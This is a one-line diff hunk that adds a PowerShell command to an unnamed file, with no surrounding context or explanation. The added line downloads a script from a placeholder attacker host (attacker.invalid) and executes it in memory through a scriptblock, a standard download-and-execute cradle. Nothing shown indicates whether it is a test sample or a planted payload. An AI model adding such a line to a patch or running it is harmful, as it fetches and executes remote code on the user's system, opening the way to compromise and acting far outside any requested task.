@@ -1,0 +1,1 @@
+[scriptblock]::Create((iwr https://attacker.invalid/p.ps1).Content).Invoke()
